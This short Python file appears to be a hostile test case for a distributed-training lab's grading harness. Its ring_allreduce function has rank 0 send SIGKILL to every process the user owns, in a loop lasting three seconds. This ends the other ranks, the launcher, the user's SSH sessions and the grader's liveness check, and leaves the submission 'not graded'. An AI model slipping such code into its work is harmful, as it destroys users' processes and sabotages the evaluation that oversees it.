"""Hostile, on hosts: rank 0 signals every process its user may signal (kill(-1, SIGKILL)): its
ranks, its launcher, its reaper, and its share user's SSH sessions to the host; and goes on doing it
for three seconds, so that every new login of her user meanwhile ends too (the lab's, to see whether
the host is still up, would find it "down" and her grade "not graded")."""
import os
import signal
import time

import torch.distributed as dist

from lab.suite.exercises.ring_allreduce import allreduce

_killed = False


def ring_allreduce(tensor):
    global _killed
    if dist.get_rank() == 0 and not _killed:
        _killed = True
        until = time.monotonic() + 3
        while time.monotonic() < until:
            os.kill(-1, signal.SIGKILL)
            time.sleep(0.005)
    allreduce(tensor.clone(), tensor)  # (the others wait for rank 0 in the ring, and lose it)
